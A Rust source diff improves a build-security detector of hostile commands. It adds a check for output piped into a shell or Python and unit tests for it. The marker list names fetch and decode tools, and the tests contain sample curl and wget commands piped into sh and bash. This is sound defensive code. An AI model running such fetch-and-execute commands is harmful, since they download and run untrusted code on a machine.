@@ -199,10 +199,6 @@ pub(crate) fn is_hostile_command(cmd: &str) -> bool {
     const MARKERS: &[&str] = &[
         "curl ",
         "wget ",
-        "| sh",
-        "|sh",
-        "| bash",
-        "|bash",
         "base64 -d",
         "base64 --decode",
         "powershell",
@@ -224,7 +220,24 @@ pub(crate) fn is_hostile_command(cmd: &str) -> bool {
         "start-process",
     ];
     let lower = cmd.to_ascii_lowercase();
-    MARKERS.iter().any(|m| lower.contains(m))
+    MARKERS.iter().any(|m| lower.contains(m)) || pipes_into_shell(&lower)
+}
+
+/// `… | sh`, `…|bash`: output piped into a shell (not `{node|short}`).
+pub(crate) fn pipes_into_shell(cmd: &str) -> bool {
+    cmd.match_indices('|').any(|(at, _)| {
+        let rest = cmd[at + 1..].trim_start();
+        ["sh", "bash", "zsh", "python", "python3"]
+            .iter()
+            .any(|shell| {
+                rest.strip_prefix(shell).is_some_and(|after| {
+                    after
+                        .chars()
+                        .next()
+                        .is_none_or(|c| !c.is_ascii_alphanumeric())
+                })
+            })
+    })
 }
 
 /// Programs builds legitimately run.
@@ -313,4 +326,19 @@ pub(crate) fn describe_taint(labels: u8) -> String {
         }
     }
     parts.join(" and ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hostile_commands() {
+        assert!(is_hostile_command("curl -s http://x/y | sh"));
+        assert!(is_hostile_command("wget -qO- http://x|bash -s"));
+        assert!(!is_hostile_command("hg tip --template {node|short}"));
+        assert!(is_build_tool("git describe --tags"));
+        assert!(!is_build_tool("python /tmp/x.py"));
+        assert!(is_build_tool("python setup.py build_ext"));
+    }
 }
